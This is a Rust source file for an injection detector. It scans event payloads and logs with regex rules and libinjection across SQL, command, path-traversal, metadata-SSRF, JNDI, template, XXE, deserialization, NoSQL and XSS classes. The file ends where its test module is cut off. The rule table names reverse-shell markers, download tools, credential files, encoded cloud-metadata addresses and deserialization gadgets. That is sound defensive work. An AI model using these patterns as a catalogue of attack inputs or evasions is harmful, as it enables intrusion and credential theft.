//! Event injection in trigger payloads and logged input: every string of a payload (JSON walked, bodies
//! that are JSON or base64 opened) is decoded into its forms (`decode::forms`) and matched against rules
//! per class. A hit carries the field, the decoded snippet and the rule.

use regex::{Regex, RegexSet};
use serde_json::Value;

use super::decode;

/// The classes of injection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Class {
    Sql,
    Command,
    PathTraversal,
    MetadataSsrf,
    Jndi,
    Template,
    Xxe,
    Deserialization,
    NoSql,
    Xss,
}

impl Class {
    pub const ALL: [Class; 10] = [
        Class::Sql,
        Class::Command,
        Class::PathTraversal,
        Class::MetadataSsrf,
        Class::Jndi,
        Class::Template,
        Class::Xxe,
        Class::Deserialization,
        Class::NoSql,
        Class::Xss,
    ];

    /// The detection id.
    pub fn detection(self) -> &'static str {
        match self {
            Class::Sql => "injection.sql",
            Class::Command => "injection.command",
            Class::PathTraversal => "injection.path_traversal",
            Class::MetadataSsrf => "injection.metadata_ssrf",
            Class::Jndi => "injection.jndi",
            Class::Template => "injection.template",
            Class::Xxe => "injection.xxe",
            Class::Deserialization => "injection.deserialization",
            Class::NoSql => "injection.nosql",
            Class::Xss => "injection.xss",
        }
    }

    /// The corpus name (`sql`, `command`, ...).
    pub fn name(self) -> &'static str {
        self.detection().trim_start_matches("injection.")
    }

    pub fn from_name(name: &str) -> Option<Class> {
        Class::ALL.into_iter().find(|c| c.name() == name)
    }
}

/// The rules, over normalised (lower-case, decoded) text.
const RULES: &[(Class, &str, &str)] = &[
    // SQL injection.
    (Class::Sql, "sql.union_select", r#"\bunion(\s+(all|distinct))?\s*(\(\s*)?select\b"#),
    (
        Class::Sql,
        "sql.quote_boolean",
        r#"(['"]\s*\)*|\d\s*\)+)\s*(or|and|xor|\|\||&&)\s*(\(\s*)?(['"`]?\w*['"`]?\s*(=|<>|!=|<=>|>|<|\blike\b|\bis\s+(not\s+)?null\b|\bin\s*\(|\bbetween\b)|\d+\s*(=|>|<|-)|true\b|false\b|not\b|\d+\s*$|sleep|exists|['"]{2}\s*[-&^*|=<>+ '"])|^\s*'\s*[-&^*|+%/]\s*'\s*$|^\s*"\s*[-&^*|+%/]\s*"\s*$"#,
    ),
    (Class::Sql, "sql.numeric_tautology", r#"(^|=)\s*-?\d+\s*\)?\s*(or|and|\|\|)\s+(\d+\s*(=|<|>)\s*\d+|true|sleep)"#),
    (Class::Sql, "sql.comment_terminator", r#"['"]\s*\)*\s*(;\s*)?(--(\s|$|\+|&)|#\s*$|/\*|;%00|\x00)"#),
    (
        Class::Sql,
        "sql.stacked",
        r#"['";)]\s*;?\s*(drop|delete|insert|update|alter|create|truncate|exec|execute|declare|shutdown|grant|select)\s+(table|from|into|database|schema|user|procedure|function|\w+\s+set|@|xp_|master\.|\*|\w+\s*\(|\d)"#,
    ),
    (
        Class::Sql,
        "sql.functions",
        r#"\b(pg_sleep\s*\(|sleep\s*\(\s*\d|benchmark\s*\(\s*\d|waitfor\s+(delay|time)\s+'|extractvalue\s*\(|updatexml\s*\(|load_file\s*\(|into\s+(out|dump)file\b|information_schema\.|xp_cmdshell|sp_executesql|dbms_pipe\.|utl_http\.|utl_inaddr\.|sysobjects\b|@@version|@@datadir|sqlite_master\b|pg_catalog\.pg_|current_user\s*\(|char\(\d+\)\s*(\+|\|\|)\s*char\(|concat\s*\(\s*0x|group_concat\s*\(|having\s+\d+\s*=\s*\d+|order\s+by\s+\d+\s*(--|#|/\*))"#,
    ),
    (
        Class::Sql,
        "sql.inference",
        r#"\b(elt|make_set|iif|gtid_subset|extractvalue|updatexml|json_keys|uuid_to_bin|bit_shift|bin_shl|rotateleft|zeroifnull|parse_data_size|regexp_substring|generate_series|to_number|xmltype|raise_error|randomblob|crypt_key|if|nullif|ifnull|coalesce)\s*\(\s*\(?\s*\d+\s*(=|like)\s*\d+|\(\s*case\s+(\d+\s+)?when\b|\bcase\s+when\s*\(?\s*\d+\s*(=|like)\s*\d+|\(\s*select\s+(\d|\*|'|"|count\s*\(|case\b|concat|char|chr|\(|[a-z_]+\s*\()|\bselect\b[^;]*\bfrom\s+(dual|sysibm\.|sys\.|rdb\$database|information_schema\.|generate_series|all_users|sysusers|sysobjects|mysql\.|pg_|sysmaster:|numbers\s*\()|in\s+boolean\s+mode\s*\)|['"]\s*(\|\||\+)\s*\(\s*select\b|\bwaitfor\s+(delay|time)\s+(['@]|\d)|\bdeclare\s+@\w+|exp\s*\(\s*~|(^|\d|['")])\s*;\s*(select|declare|waitfor|exec|call|iif|shutdown|drop|insert|update|delete)\b"#,
    ),
    (
        Class::Sql,
        "sql.leading_boolean",
        r#"^\s*[)'"]*\s*(or|and|xor|\|\||&&)\s+(not\s+)?(\(?\s*\d+\s*(=|<|>|<>|!=|like)\s*\d+|\w+\s*(=|<>|!=)\s*\w+\b|\w+\(\)\s*=\s*\w+\(\)|true\b|false\b|\d+\s*(--|#|$)|['"]\w*['"]\s*=)"#,
    ),
    // OS command injection.
    (
        Class::Command,
        "command.separator_then_command",
        r#"(;|\|\|?|&&?|\$\(|\n)\s*(\(?\s*)(\{|(/[\w.-]+)*/|\\)?(cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|dash|ksh|python[23]?|perl|ruby|php|powershell|pwsh|cmd(\.exe)?|nslookup|telnet|rm|chmod|chown|busybox|printenv|ifconfig|ipconfig|net\s+user|systeminfo|tasklist|mkfifo|base64|xxd|crontab|pkill|tftp|scp|ssh|socat|openssl|certutil|bitsadmin|mshta|rundll32|regsvr32|nohup)\b(\s+[-/$'".~\w]|\s*[;|&`)]|\s*$)"#,
    ),
    (
        Class::Command,
        "command.separator_then_argument",
        r#"(;|\|\|?|&&?|\$\(|\n)\s*((/[\w.-]+)*/)?(echo|sleep|ping|env|dig|host|find|head|tail|type|dir|kill|touch|tee|dd|sed|awk|timeout|set|exit|net|netstat|ifconfig|uname|pwd|hostname)(\s+(-\w|\$|/|['"]|[a-z]:[\\/]|\d+\s*($|[;|&`)])|[\w.-]+\s*(\||$|[;&`)]))|\s*$|\s*[;|&`)])"#,
    ),
    (
        Class::Command,
        "command.substitution",
        r#"\$\((\s*[a-z/`])|(^|[^\s\[(`'"])`((/[\w.-]+)*/)?(id|whoami|uname|ls|cat|curl|wget|sleep|ping|echo|nslookup|hostname|nc|bash|sh|env|pwd|ifconfig|netstat|ps|python|perl|php|ruby|dir|type|set)(\s[^`]*)?`|^\s*`\s*((/[\w.-]+)*/)?(id|whoami|uname|ls|cat|curl|wget|sleep|ping|echo|nslookup|hostname|nc|bash|sh|env|pwd|ifconfig|netstat|python|perl|php|ruby)(\s[^`]*)?`\s*$|^\s*(whoami|ifconfig|ipconfig(\s+/all)?|uname\s+-a|netstat\s+-an?|/usr/bin/id|/bin/id|sysinfo|systeminfo)\s*;?\s*$|^\s*(curl|wget)\s+(-\S+\s+)*https?://|^\s*(dir|type)\s+[a-z]:\\|(^|[;|&\n`]|\$\()\s*(net\s+(user|localgroup|group|view|share|use|accounts)\b|netsh\s+(firewall|advfirewall|interface|wlan)\b|reg\s+(add|delete|query|save)\s+['"]?hk|sysinfo\b|systeminfo\b)|^\s*((/[\w.-]+)*/)?(cat|ls|id|wget|curl|nc|ncat|bash|sh|rm|chmod|ping|nslookup|whoami|uname|sleep|python[23]?|perl|php|ruby|powershell|cmd(\.exe)?|netstat|ifconfig|ipconfig)\s+(-{1,2}[a-z]+\b|/[a-z]|[a-z]:\\|\\\\|\$|~/|\.\.?/|\d+\s*$)"#,
    ),
    (
        Class::Command,
        "command.shell_paths",
        r#"(/bin/(ba|z|da|k)?sh\b|/usr/bin/(env|python|perl|nc|curl|wget)\b|cmd(\.exe)?\s+/c\b|powershell(\.exe)?\s+-(e|enc|encodedcommand|nop|c|command|w)\b|/dev/(tcp|udp)/|\bnc(at)?\s+(-\w+\s+)*-(e|c)\s|\bbash\s+-(i|c)\b|\bsh\s+-c\b|\|\s*(ba)?sh\b|\bmkfifo\s+/tmp/|base64\s+(-d|--decode)\b)"#,
    ),
    (
        Class::Command,
        "command.code_evaluation",
        r#"<\?(php\b|=)|\b(system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|eval|assert|os\.system|os\.popen|subprocess\.\w+|execsync|spawnsync|execfile|runtime\.getruntime\(\)\.exec|check_output)\s*\(\s*(['"`$\[]|compile\b|base64_decode|atob|\$_)|\b(require|import)\s*\(\s*['"]child_process['"]\s*\)|__import__\s*\(\s*['"](os|subprocess|pty)['"]\s*\)|\$\{@\w+\(|\(\)\s*\{\s*[:_]\s*;?\s*\}|\bexit\s*\(\s*md5\s*\(|\bphpinfo\s*\(\s*\)|process\.mainmodule|\bchild_process\b[^;]*\bexec|\$_(get|post|request|cookie|server|files)\s*\[|\{\$\{[^}]*\(|<!--\s*#\s*(exec|include|echo|printenv|config)\b|\b(phpinfo|phpversion|php_uname|get_current_user|posix_getpwuid)\s*\(\s*\)"#,
    ),
    (
        Class::Command,
        "command.glob_and_brace_evasion",
        r#"/\?\?\?/[?\w]*\?[?\w]*|\{(cat|ls|id|wget|curl|nc|bash|sh|echo|ping),[^}\s]+\}|(;|\||&|`|\$\()\s*\w*(['"\\]\w+){2,}['"\\]?\w*|\$\(\s*printf\b|\becho\s+[\w+/=]{4,}\s*\|\s*base64\b"#,
    ),
    // Path traversal and local files.
    (
        Class::PathTraversal,
        "path.dot_dot",
        r#"(\.{2,}%?[/\\;]+){2,}|(^|[/\\=:'\s])\.\.;?[/\\]+(etc|proc|var|usr|root|home|windows|winnt|boot|opt|tmp|web-inf|inetpub|system32)\b|\.\.[/\\]+\.\.\b|(\.\./|\.\.\\)+[\w.-]+\.(ini|conf|config|xml|log|php|asp|aspx|jsp|env|ini|htaccess|htpasswd|passwd|properties|yml|yaml|key|pem)\b|(\.\.[/\\]){1,}\.?[\w-]*(passwd|shadow|hosts|win\.ini|boot\.ini)"#,
    ),
    (
        Class::PathTraversal,
        "path.sensitive_file",
        r#"(^|[/\\=:'`])(etc[/\\](passwd|shadow|group|hosts|issue|sudoers|services|motd|crontab|fstab|mtab|hostname|resolv\.conf|apache2|httpd|nginx|mysql|ssh)|proc[/\\](self|\d+)[/\\](environ|cmdline|maps|fd|mem|root|status|cwd)|windows[/\\](win\.ini|system32|system\.ini|repair|panther)|boot\.ini|\.aws[/\\]credentials|\.ssh[/\\](id_\w+|authorized_keys|known_hosts)|var[/\\]task[/\\]|var[/\\]runtime[/\\]|\.env\b|web-inf[/\\]|web\.config|wp-config\.php|\.bash_history|\.htpasswd|\.htaccess\b|var[/\\]log[/\\]|::\$data\b|[a-z]:[/\\](windows|winnt|boot\.ini|inetpub)|\\\\[\w.-]+\\[\w$]+)"#,
    ),
    (
        Class::PathTraversal,
        "path.file_scheme",
        r#"\b(php|phar|zip|expect|glob|data|jar|netdoc|gopher|dict)://|\bfile:(//(localhost|127\.0\.0\.1)?)?/+((etc|proc|windows|winnt|boot\.ini|var|root|dev|sys|usr|tmp|home/[\w.-]+/\.)\b|[a-z]:|\.\.)|\bfile:(//)?[a-z]:[/\\]|php://(filter|input)"#,
    ),
    // SSRF to instance metadata and credential endpoints.
    (
        Class::MetadataSsrf,
        "ssrf.metadata_address",
        r#"169\.254\.169\.254|169\.254\.170\.2\b|fd00:ec2::254|metadata\.google\.internal|metadata\.azure\.(com|internal)|100\.100\.100\.200|\binstance-data\b"#,
    ),
    (
        Class::MetadataSsrf,
        "ssrf.metadata_encoded_address",
        r#"\b2852039166\b|\b0xa9fea9fe\b|0xa9\.0xfe\.0xa9\.0xfe|0251\.0376\.0251\.0376|\b0251\.0?376\.0?251\.0?376\b|::ffff:a9fe:a9fe|::ffff:169\.254\.|169\.254\.43518\b|0xa9\.254\.|169\.0xfe\.|\b169\.16689662\b|\[::169\.254\."#,
    ),
    (
        Class::MetadataSsrf,
        "ssrf.metadata_path",
        r#"/latest/(meta-data|user-data|api/token|dynamic/instance-identity)|/computemetadata/v1|/metadata/(instance|identity/oauth2)|/v2/credentials/|aws_container_credentials_relative_uri|/opc/v[12]/instance"#,
    ),
    // Log4Shell-style JNDI lookups (after `decode::resolve_lookups`).
    (
        Class::Jndi,
        "jndi.lookup",
        r#"\$\{\s*jndi\s*:|jndi\s*:\s*(ldap|ldaps|rmi|dns|iiop|corba|nds|nis|http|https)s?\s*:/"#,
    ),
    // Server-side template injection.
    (
        Class::Template,
        "template.arithmetic",
        r#"\{\{\s*\d+\s*[*+/-]\s*['\d]+\s*\}\}|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|#\{\s*\d+\s*[*+/-]\s*\d+\s*\}|<%=?\s*\d+\s*[*+/-]\s*\d+\s*%>|\$\{\{\s*\d+\s*[*+/-]\s*\d+\s*\}\}|\[\[\s*\$\{\s*\d|\{\s*\d+\s*\*\s*\d+\s*\}\}|@\(\s*\d+\s*[*+]\s*\d+\s*\)|[*@]\{\s*\d+\s*[*+/-]\s*\d+\s*\}|\$\{\s*\d+\s*[*+/-]\s*['"]\d+['"]\s*\}|(^|[^\w$#*@{])\{\s*\d+\s*\*\s*\d+\s*\}|\{\*[^}]*\*\}|\$\{\s*["'][^}]*["']\s*\.\s*\w+\s*\("#,
    ),
    (
        Class::Template,
        "template.object_walk",
        r#"\{\{[^}]*(__class__|__mro__|__subclasses__|__globals__|__builtins__|__init__|__import__|config\.items|request\.application|\blipsum\b|\bcycler\b|\bjoiner\b|self\._|\|attr\s*\(|popen|getattribute)|\{%[^%]*(import|__class__|popen|system)[^%]*%\}"#,
    ),
    (
        Class::Template,
        "template.java_el",
        r#"[$#*@]\{[^}]*(t\s*\(\s*java\.|getclass\s*\(|getruntime|java\.lang\.|new\s+java|freemarker\.template|\.forname\s*\(|processbuilder|classloader|getmethod)|<#assign|\?new\s*\(\)|\$class\.inspect|#set\s*\(\s*\$\w+\s*=|\{php\}|\{\{\s*constructor\.constructor|<%=?\s*(system|exec|runtime|`|process|require|global\.)"#,
    ),
    (
        Class::Template,
        "template.expression_exec",
        r#"[$#*@%]\{[^}]*(\bos\.(system|popen)|__import__|self\.module|\.system\s*\(|popen|getruntime|\.exec\s*\(|@java\.|#_memberaccess|\bt\s*\(|applicationscope|pagecontext|\.getclass\s*\(|\.forname\s*\(|`)|\{\{[^}]*(\|\s*(filter|map|reduce|sort)\s*\(\s*['"](system|exec|passthru|shell_exec|popen)|_self\.env|registerundefinedfiltercallback|\bdump\s*\(|\bapp\.request|file_excerpt|constructor|\bprocess\b|child_process|__\w+__|\bmro\b|subclasses|globals|builtins|get_flashed_messages|url_for\.|\brange\.constructor)|\{\{\s*(config|self|request|settings|_self|_context|app)\s*(\}\}|\.(items|__|env|environ|request|application|args|iteritems))|\{\{\s*['"][^'"]*['"]\s*\.\s*\w+\s*\(|\{%[^%]*\b(config|request|self|settings|lipsum|cycler|namespace)\s*[.\[]|getclass\s*\(\s*\)\s*\.\s*forname\s*\(|scriptenginemanager|new\s+java\.lang\.processbuilder|\{\{#with\b[^}]*\}\}.*\b(constructor|lookup)\b|\$\{\{?\s*<%|\{\{=?\s*\d+\s*\*|<%=?[^%]*(\bsystem\b|\bexec\b|`|popen|file\.(open|read)|dir\.entries|\beval\b|\brequire\b|\bprocess\b|open3|\bimport\b|\bos\.)|\{php\}|\{system\(|\$smarty\.|smarty_internal|<#if\b|\[#assign\b|\{\{\s*(printf|\.request|\.env)\b|\{\{\s*\.[a-z]+\s*\}\}|@system\.diagnostics"#,
    ),
    // XML external entities and XInclude.
    (
        Class::Xxe,
        "xxe.entity",
        r#"<!doctype[^>]*\[|<!doctype\s+[\w:.-]+\s+(system|public)\s+['"]|<!entity\s+(%\s*)?[\w.-]+\s+(system|public)\b|<!entity\s+%|xmlns:xi\s*=\s*['\x22]http://www\.w3\.org/2001/xinclude|<xi:include\b"#,
    ),
    // Insecure deserialization gadgets and markers.
    (
        Class::Deserialization,
        "deserialization.java",
        r#"\bro0ab[a-z0-9+/]|binary:aced0005|\baced0005|org\.apache\.commons\.collections\d*\.functors|invokertransformer|com\.sun\.rowset\.jdbcrowsetimpl|org\.springframework\.beans\.factory|java\.lang\.runtime|ysoserial|com\.sun\.org\.apache\.xalan|templatesimpl|org\.codehaus\.groovy\.runtime|c3p0\.|bsh\.interpreter"#,
    ),
    (
        Class::Deserialization,
        "deserialization.php",
        r#"\bo:\d+:"[a-z_\\][\w\\]*":\d+:\{|\bc:\d+:"[a-z_\\][\w\\]*":\d+:\{|\ba:\d+:\{(s|i):\d+[:;]"#,
    ),
    (
        Class::Deserialization,
        "deserialization.python_yaml_node",
        r#"!!python/(object|name|module|apply)|!!js/(function|regexp|undefined)|_\$\$nd_func\$\$_|\bcos\s*\n?\s*system|c__builtin__|cposix\b|\bcsubprocess\b|binary:8004|binary:8003|\bgasv[a-z0-9+/]{4,}|__reduce__"#,
    ),
    (
        Class::Deserialization,
        "deserialization.dotnet_json",
        r#"binary:0001000000ff|\baaeaaad/////|"\$type"\s*:\s*"system\.|objectdataprovider|system\.windows\.data|"@type"\s*:\s*"(com\.|java\.|org\.|javax\.)|system\.diagnostics\.process"#,
    ),
    // NoSQL operator injection.
    (
        Class::NoSql,
        "nosql.operator",
        r#"["']\$(ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|expr|function|accumulator|or|and|not|nor|elemmatch|all|size|type|jsonschema|text|mod)["']\s*:|\[\s*\$(ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|expr|or|and|not|nor|elemmatch)\s*\]"#,
    ),
    (
        Class::NoSql,
        "nosql.javascript",
        r#"\$where\b|['"]\s*;\s*(return\s+(true|1)|sleep\s*\()|\bthis\.\w+(\.\w+)*\s*(==|!=|>|<|\.match\s*\()|['"]\s*\|\|\s*['"]?1['"]?\s*==\s*['"]?1|db\.\w+\.(find|drop|insert|remove)\s*\(|\bmapreduce\b|\{\s*\$(ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|expr|or|and|not|nor|elemmatch|all|size|type|function)\s*:|['",]\s*\$(where|or|and|comment|ne|gt|regex)\s*:|\|\|\s*['"]?\d+['"]?\s*===?\s*['"]?\d+|['"]\w{1,3}['"]\s*===?\s*['"]\w{1,3}['"]?|;\s*return\s+(true|1|this|'')|return\s+['"]{2}\s*==|:\s*/\.\*/|new\s+date\(\)\s*;\s*do\s*\{|db\.(getcollectionnames|dropdatabase|getsiblingdb|admincommand|getcollection)\s*\(|\bthis\.\w+\.length\s*[<>=]"#,
    ),
    // Cross-site scripting (libinjection's HTML5 tokeniser runs too, in `scan_text`).
    (
        Class::Xss,
        "xss.markup",
        r#"<\s*/?\s*(script|iframe|svg|img|body|object|embed|applet|meta|link|style|base|form|input|details|marquee|video|audio|source|math|isindex|frameset|frame|xss|x|a|div|table|bgsound|layer|ilayer|xml|html|title|textarea|keygen|select|button|template|animate|set|image)\b[^>]*\bon[a-z]{3,}\s*=|<\s*script\b|\bjavascript\s*:|\bvbscript\s*:|\blivescript\s*:|data\s*:\s*text/html|<\s*(iframe|frame|embed|object|applet|meta\s+http-equiv|base\s+href|svg|math|xss|isindex)\b|['"]\s*/?>\s*<\s*[a-z]+|['"`]\s*(autofocus\s+)?on(error|load|mouseover|focus|click|toggle|begin|start|mouseenter|animationstart|pointerover)\s*=|[:=]\s*expression\s*\(|@import\b|<!\[cdata\[<\]\]>|\bstring\.fromcharcode\s*\(|\bdocument\.(cookie|domain|write|location)|\b(alert|prompt|confirm)\s*(\(|`)[^)`]*[)`]|<\?import\b|<[a-z]+[^>]*\s(src|href|data|action|formaction)\s*=\s*['"]?\s*(javascript|data):"#,
    ),
];

/// One match.
#[derive(Debug, Clone, PartialEq)]
pub struct Hit {
    pub class: Class,
    pub rule: &'static str,
    /// Where in the payload (`body.query`, `headers.User-Agent`, `message`).
    pub field: String,
    /// The decoded text around the match.
    pub snippet: String,
}

/// Most strings of one payload that are matched.
const STRINGS_MAX: usize = 4_096;
const DEPTH_MAX: usize = 16;
/// Texts at most this long have their hits remembered, at most this many per thread (then forgotten
/// all at once): at most 8 MiB of texts a thread.
const REMEMBERED_TEXT_BYTES_MAX: usize = 512;
const REMEMBERED_TEXTS_MAX: usize = 16_384;

type Remembered = std::collections::HashMap<Box<str>, Vec<(Class, &'static str, String)>, foldhash::fast::RandomState>;

thread_local! {
    /// The hits of the short texts this thread scanned last (`InjectionMatcher::scan_text`). The rules
    /// are constants, so every matcher's hits for a text are the same.
    static SCANNED: std::cell::RefCell<Remembered> = std::cell::RefCell::new(Remembered::default());
}

/// The compiled rules.
pub struct InjectionMatcher {
    set: RegexSet,
    /// `AND 4386=4386`, `WHERE (7=7)`: a number compared with itself after a SQL word (checked in code:
    /// the regex crate has no back-references).
    equality: Regex,
    /// Forms worth libinjection's SQL tokeniser: a quote, or a leading number or parenthesis, before a
    /// SQL word. The tokenisers cost microseconds a call; most strings need none.
    sql_gate: Regex,
    /// Forms worth the HTML5 tokeniser: markup, an event handler, a script URL or CSS expression.
    xss_gate: Regex,
    rules: Vec<(Class, &'static str, Regex)>,
}

impl Default for InjectionMatcher {
    fn default() -> Self {
        Self::new()
    }
}

impl InjectionMatcher {
    pub fn new() -> Self {
        let set =
            // The lazy DFA of the whole set needs more than the default 2 MiB cache: below what it needs,
            // the set runs in the PikeVM instead, about a hundred times slower.
            regex::RegexSetBuilder::new(RULES.iter().map(|(_, _, p)| ascii_boundaries(p)))
                .dfa_size_limit(64 << 20)
                .size_limit(64 << 20)
                .build()
                .expect("the injection rules compile");
        let rules = RULES
            .iter()
            .map(|(class, name, pattern)| {
                (*class, *name, Regex::new(&ascii_boundaries(pattern)).expect("the injection rules compile"))
            })
            .collect();
        let equality = Regex::new(&ascii_boundaries(
            r"(\b(and|or|xor|when|where|having|not|if|elt)\s*\(?|\(\s*)\s*(\d+)\s*(=|like|<=>)\s*(\d+)\b",
        ))
        .expect("the equality rule compiles");
        let sql_gate = Regex::new(&ascii_boundaries(
            r#"(['"`]|^\s*[-+]?[\d)]).*\b(or|and|xor|union|select|like|rlike|regexp|sleep|case|having|order|group|where|exec|declare|waitfor|benchmark|procedure|into|from|if|elt|null|not|limit|div|is|in|between)\b|\b(union|select)\b"#,
        ))
        .expect("the SQL gate compiles");
        let xss_gate =
            Regex::new(&ascii_boundaries(r#"<|\bon[a-z]+\s*=|javascript|vbscript|data\s*:|expression\s*\(|style\s*="#))
                .expect("the XSS gate compiles");
        InjectionMatcher { set, rules, equality, sql_gate, xss_gate }
    }

    /// Matches one text (all its decoded forms); at most one hit per class.
    ///
    /// The hits of a short text are remembered per thread (`SCANNED`): the strings of payloads repeat
    /// (hosts, user agents, stages, methods, paths), and a text's hits depend on the text alone. A class
    /// already in `out` is not added again, exactly as the scan itself skips it.
    pub fn scan_text(&self, field: &str, text: &str, out: &mut Vec<Hit>) {
        // `;id` and `|id` are three characters.
        if text.len() < 3 {
            return;
        }
        if text.len() > REMEMBERED_TEXT_BYTES_MAX {
            return self.scan_forms(field, text, out);
        }
        let remembered = SCANNED.with(|scanned| scanned.borrow().get(text).cloned());
        let found = match remembered {
            Some(found) => found,
            None => {
                let mut fresh = Vec::new();
                self.scan_forms("", text, &mut fresh);
                let found: Vec<(Class, &'static str, String)> =
                    fresh.into_iter().map(|h| (h.class, h.rule, h.snippet)).collect();
                SCANNED.with(|scanned| {
                    let mut scanned = scanned.borrow_mut();
                    if scanned.len() >= REMEMBERED_TEXTS_MAX {
                        scanned.clear();
                    }
                    scanned.insert(text.into(), found.clone());
                });
                found
            }
        };
        for (class, rule, snippet) in found {
            if !out.iter().any(|h| h.class == class) {
                out.push(Hit { class, rule, field: field.to_string(), snippet });
            }
        }
    }

    /// `scan_text` without the memory: every decoded form through the rules and the tokenisers.
    fn scan_forms(&self, field: &str, text: &str, out: &mut Vec<Hit>) {
        for form in decode::forms(text) {
            let matched = self.set.matches(&form);
            for index in matched.iter() {
                let (class, rule, regex) = &self.rules[index];
                if out.iter().any(|h| h.class == *class) {
                    continue;
                }
                let snippet = regex.find(&form).map(|m| snippet(&form, m.start(), m.end())).unwrap_or_default();
                out.push(Hit { class: *class, rule, field: field.to_string(), snippet });
            }
            self.tokenised(field, &form, out);
        }
    }

    /// Where a number is compared with itself after a SQL word or a parenthesis, if anywhere.
    fn self_equality_at(&self, form: &str) -> Option<usize> {
        self.equality.captures_iter(form).find(|c| c[3] == c[5]).map(|c| c.get(0).map_or(0, |m| m.start()))
    }

    /// libinjection's tokenisers (SQL fingerprints, the HTML5 tokeniser for XSS) over one decoded form,
    /// for what the rules did not already find. Only forms with the characters each needs are tokenised.
    fn tokenised(&self, field: &str, form: &str, out: &mut Vec<Hit>) {
        let bytes = form.as_bytes();
        if !out.iter().any(|h| h.class == Class::Sql)
            && self.sql_gate.is_match(form)
            && sql_fingerprint_breaks_out(&libinjectionrs::detect_sqli(bytes))
        {
            out.push(Hit {
                class: Class::Sql,
                rule: "sql.tokens",
                field: field.to_string(),
                snippet: snippet(form, 0, 0),
            });
        }
        if !out.iter().any(|h| h.class == Class::Sql) && (form.contains('=') || form.contains(" like ")) {
            if let Some(at) = self.self_equality_at(form) {
                out.push(Hit {
                    class: Class::Sql,
                    rule: "sql.tautology",
                    field: field.to_string(),
                    snippet: snippet(form, at, at),
                });
            }
        }
        if !out.iter().any(|h| h.class == Class::Xss)
            && self.xss_gate.is_match(form)
            && libinjectionrs::detect_xss(bytes).is_injection()
        {
            out.push(Hit {
                class: Class::Xss,
                rule: "xss.tokens",
                field: field.to_string(),
                snippet: snippet(form, 0, 0),
            });
        }
    }

    /// Matches every string of a payload: JSON is walked (keys too: NoSQL operators are keys), strings
    /// that are JSON themselves are opened, anything else is one text.
    ///
    /// A text with a JSON document inside (`Received event: {...}`, as Node.js's blueprint logs its
    /// event) has the document walked and the text around it matched: matched as one text, the JSON's
    /// escapes (`\"`) would hide what the strings hold.
    pub fn scan_payload(&self, payload: &str) -> Vec<Hit> {
        let mut hits = Vec::new();
        let mut budget = STRINGS_MAX;
        match serde_json::from_str::<Value>(payload) {
            Ok(value) if value.is_object() || value.is_array() => {
                self.walk(&value, &mut String::new(), 0, &mut budget, &mut hits);
            }
            _ => match embedded_json(payload) {
                Some((start, end, value)) => {
                    let around = format!("{} {}", &payload[..start], &payload[end..]);
                    self.scan_text("payload", around.trim(), &mut hits);
                    self.walk(&value, &mut String::new(), 0, &mut budget, &mut hits);
                }
                None => self.scan_text("payload", payload, &mut hits),
            },
        }
        hits
    }

    fn walk(&self, value: &Value, path: &mut String, depth: usize, budget: &mut usize, out: &mut Vec<Hit>) {
        if depth > DEPTH_MAX || *budget == 0 {
            return;
        }
        match value {
            Value::String(text) => {
                *budget -= 1;
                let trimmed = text.trim_start();
                if (trimmed.starts_with('{') || trimmed.starts_with('[')) && text.len() > 2 {
                    if let Ok(inner) = serde_json::from_str::<Value>(text) {
                        if inner.is_object() || inner.is_array() {
                            // A JSON body: its strings and keys are the input, not its punctuation.
                            self.walk(&inner, path, depth + 1, budget, out);
                            return;
                        }
                    }
                }
                let field = if path.is_empty() { "payload" } else { path.as_str() };
                self.scan_text(field, text, out);
            }
            Value::Array(items) => {
                for item in items {
                    self.walk(item, path, depth + 1, budget, out);
                }
            }
            Value::Object(map) => {
                for (key, item) in map {
                    let before = path.len();
                    if !path.is_empty() {
                        path.push('.');
                    }
                    path.push_str(key);
                    if key.starts_with('$') || key.contains('[') {
                        // A key is input too: `{"password": {"$ne": null}}`, `user[$ne]`.
                        *budget = budget.saturating_sub(1);
                        self.scan_text(path, &format!("\"{key}\": "), out);
                    }
                    self.walk(item, path, depth + 1, budget, out);
                    path.truncate(before);
                }
            }
            _ => {}
        }
    }
}

/// libinjection's verdict, kept only when the fingerprint starts the way an injected value does: breaking
/// out of a number (`1`) or a string (`s`), or a UNION. Prose tokenises as barewords, keywords and
/// functions first (`no(s)`, `Eknkn`, `f(n)`: 80 of 10,218 lines of docs and comments were flagged before),
/// and `s` followed by an operator and a string (`sos`, `son`) is ordinary quoting in prose.
fn sql_fingerprint_breaks_out(result: &libinjectionrs::DetectionResult) -> bool {
    if !result.is_injection() {
        return false;
    }
    let Some(fingerprint) = result.fingerprint.as_ref() else { return false };
    let fingerprint = fingerprint.as_str();
    (fingerprint.starts_with('1') || fingerprint.starts_with('s') || fingerprint.starts_with('U'))
        && fingerprint != "sos"
        && !fingerprint.starts_with("son")
}

/// A pattern with ASCII word boundaries (`(?-u:\b)`) for `\b`. A Unicode word boundary makes the
/// regex crate's lazy DFA give up on any non-ASCII text, and the rule set then runs in the PikeVM, a
/// hundred times slower (the security bench fell to 1,000 invocations a second). Payload syntax is ASCII.
fn ascii_boundaries(pattern: &str) -> String {
    pattern.replace(r"\b", r"(?-u:\b)")
}

/// The first JSON object or array inside a text (at its first `{`, else its first `[`), with where it
/// starts and ends.
fn embedded_json(text: &str) -> Option<(usize, usize, Value)> {
    for open in ['{', '['] {
        let Some(start) = text.find(open) else { continue };
        let mut stream = serde_json::Deserializer::from_str(&text[start..]).into_iter::<Value>();
        if let Some(Ok(value)) = stream.next() {
            if value.is_object() || value.is_array() {
                return Some((start, start + stream.byte_offset(), value));
            }
        }
    }
    None
}

fn snippet(text: &str, start: usize, end: usize) -> String {
    let floor = |mut i: usize| {
        while !text.is_char_boundary(i) {
            i -= 1;
        }
        i
    };
    let from = floor(start.saturating_sub(40));
    let to = floor((end + 40).min(text.len()));
    text[from..to].to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classes(payload: &str) -> Vec<Class> {
        InjectionMatcher::new().scan_payload(payload).into_iter().map(|h| h.class).collect()
    }

    #[test]
    fn every_rule_compiles_and_classes_have_names() {
        let matcher = InjectionMatcher::new();
        assert_eq!(matcher.rules.len(), RULES.len());
        for class in Class::ALL {
